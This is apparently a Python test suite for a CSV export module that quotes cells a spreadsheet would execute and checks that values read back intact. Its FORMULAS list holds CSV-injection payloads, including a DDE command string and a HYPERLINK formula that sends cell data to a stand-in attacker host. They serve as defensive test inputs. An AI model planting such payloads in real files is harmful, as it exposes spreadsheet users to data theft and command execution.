"""Cells of a CSV file: what a spreadsheet would execute is quoted, and everything can be read back."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dtscheduler.reports.cells import (
    AT_START,
    INSIDE,
    length_cells,
    number_cells,
    text_cell,
    text_cells,
    time_cells,
    whole_cells,
)

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", '"=1+1', "'=1+1", "\"' =1+1", "\ufeff=1+1",
    "\u200b=1+1", "\u00a0=1+1", "\x01=1+1", "＝1+1", "＋1", "－1", "＠SUM", "=cmd|'/C calc'!A0", "\u2028=1", "\u202e=1",
    "x;=1+1", "x;\"=1+1", "x\t=1+1", "x\r=1+1", "x\n=1+1", "x\n  @y", ";=1", "\ttext", "\rtext", "\ntext", "'\ttext", "-",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "a,b;=1", "\x00=1",
]  # fmt: skip
HARMLESS = [
    "",
    "load",
    "EUR 10Y",
    "task-1",
    "a=b",
    "a@b.example",
    "1+1",
    "é",
    "x; y",
    "x;y",
    "7",
    "'",
    '"',
    "a\nb",
    "👩‍👧",
]
INVISIBLE = re.compile("[\\s\"'\\x00-\\x20\\x7f-\\xa0\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]*")
PIECES = st.sampled_from(
    ["=", "+", "-", "@", "＝", "'", '"', ";", ",", "\t", "\r", "\n", " ", "\ufeff", "a", "1", "é", "\0"]
)
TEXTS = st.lists(PIECES, max_size=8).map("".join) | st.text(max_size=20)


def executed(cell):
    """What a spreadsheet would execute, which passes over what nobody sees; but not over the quote put there."""
    return not cell.startswith("'") and INVISIBLE.sub("", cell, count=1)[:1] in tuple("=+-@＝＋－＠")


def read(text, delimiter=","):
    return [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in line]


def unquoted(cell):
    """The text of a cell, without the quotes that were put there."""
    return re.sub(f"\\A'{AT_START}|(?<=[;\\t\\r\\n])'{INSIDE}", "", cell)


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_formula_is_executed_whatever_parts_the_cells(text, delimiter):
    line = "7," + text_cell(text) + "," + text_cell("last") + "\n"
    assert not any(map(executed, read(line, delimiter)))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_quoted_and_comes_back(text):
    if text.startswith("\x00"):  # which is written as text that is none
        return
    [cell] = read(text_cell(text))
    assert cell != text and unquoted(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text):
    assert (read(text_cell(text) + ",x"))[0] == text


@pytest.mark.parametrize("text", FORMULAS)
def test_raw_leaves_formulas_alone(text):
    assert read(text_cell(text, raw=True)) == [text.replace("\0", "\\x00")]


def test_what_no_file_can_hold_is_written_as_text():
    assert text_cell("a\0b\ud800") == "a\\x00b\\ud800"
    assert text_cells(["a\0b", "\udfff=", "x"]) == ["a\\x00b", "\\udfff=", "x"]


@given(st.lists(TEXTS, max_size=6), st.booleans())
def test_many_texts_become_the_cells_that_each_becomes_alone(texts, raw):
    assert text_cells(texts, raw=raw) == [text_cell(text, raw=raw) for text in texts]


@given(st.lists(TEXTS, min_size=2, max_size=5))
def test_every_text_comes_back_and_none_is_executed(texts):
    cells = read(",".join(text_cells(texts)) + "\n")
    assert not any(map(executed, cells))
    assert [unquoted(cell) for cell in cells] == [text.replace("\0", "\\x00") for text in texts]


def test_a_long_text_of_line_breaks_takes_no_longer_than_it_is_long():
    hostile = "\n \t;" * 50_000
    assert text_cell(hostile).count("'") == 1


@given(st.lists(st.none() | st.integers()))
def test_whole_numbers_come_back(values):
    assert [int(cell) if cell else None for cell in whole_cells(values)] == values


@given(st.lists(st.none() | st.floats(allow_nan=False)))
def test_numbers_come_back_to_the_last_bit(values):
    assert [float(cell) if cell else None for cell in number_cells(values)] == values


@given(st.datetimes(timezones=st.just(UTC)))
def test_times_come_back_to_the_microsecond(when):
    [cell] = time_cells([(when - datetime(1970, 1, 1, tzinfo=UTC)) // timedelta(microseconds=1)])
    assert cell.endswith("Z") and datetime.fromisoformat(cell) == when


def test_what_is_not_known_is_an_empty_cell():
    assert time_cells([None]) == length_cells([None]) == [""]
    assert length_cells([1_500_000, -250_000, 0]) == ["1.5", "-0.25", "0.0"]
